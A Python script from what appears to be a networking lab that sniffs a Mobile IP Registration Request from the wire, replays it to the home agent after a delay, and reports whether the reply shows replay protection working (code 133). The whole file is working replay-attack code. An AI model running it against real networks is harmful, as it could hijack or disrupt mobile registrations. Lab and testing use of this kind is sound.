#!/usr/bin/env python3
"""Lab 06's replay attacker: record a Mobile IP Registration Request, send it again later.

Run inside a node on the path between the foreign agent and the home agent (the lab's
``core``): it listens on every interface of the node for the first Registration Request
(UDP port 434, type 1, lifetime > 0), waits ``--delay`` seconds and sends the same bytes to
the home agent from this node, then prints the home agent's answer (a Registration Reply
with code 133, identification mismatch, when replay protection works). The replayed
request is authentic (the MN made its authenticator); only its Identification is old.

    python3 labs/06-failures/replay.py --delay 1.5            # as the scenario's service
    testbed exec LAB core -- python3 labs/06-failures/replay.py --hex 0100...   # by hand

Only the standard library: it runs with any python3 in the node.
"""

from __future__ import annotations

import argparse
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
MIP_PORT = 434


def first_request(timeout: float) -> tuple[str, bytes] | None:
    """(home agent address, UDP payload) of the first Registration Request seen."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sock.settimeout(0.5)
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            try:
                packet = sock.recv(65535)
            except TimeoutError:
                continue
            if len(packet) < 20 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_UDP:
                continue
            ihl = (packet[0] & 0x0F) * 4
            udp = packet[ihl : ihl + 8]
            if len(udp) < 8 or struct.unpack("!H", udp[2:4])[0] != MIP_PORT:
                continue
            payload = packet[ihl + 8 :]
            # type 1, lifetime (bytes 2-3) above 0: a registration, not a deregistration
            if len(payload) >= 24 and payload[0] == 1 and struct.unpack("!H", payload[2:4])[0]:
                return socket.inet_ntoa(packet[16:20]), payload
    finally:
        sock.close()
    return None


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--delay", type=float, default=1.5, help="seconds before the replay")
    parser.add_argument("--wait", type=float, default=30.0, help="give up recording after")
    parser.add_argument("--hex", help="replay this request (hex) instead of recording one")
    parser.add_argument("--to", help="the home agent (default: the recorded destination)")
    args = parser.parse_args(argv)
    if args.hex:
        payload, to = bytes.fromhex(args.hex), args.to
        if not to:
            parser.error("--hex needs --to")
    else:
        found = first_request(args.wait)
        if found is None:
            print("replay: no registration request seen", flush=True)
            return 1
        to, payload = args.to or found[0], found[1]
        print(f"replay: recorded {len(payload)} bytes to {to}: {payload.hex()}", flush=True)
        time.sleep(args.delay)
    ident = payload[16:24].hex()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2.0)
        sock.sendto(payload, (to, MIP_PORT))
        print(f"replay: sent it again to {to}:{MIP_PORT} (identification {ident})", flush=True)
        try:
            reply, src = sock.recvfrom(2048)
        except TimeoutError:
            print("replay: no reply", flush=True)
            return 1
    code = reply[1] if len(reply) > 1 and reply[0] == 3 else None
    print(f"replay: reply from {src[0]}: code {code} ({reply.hex()})", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
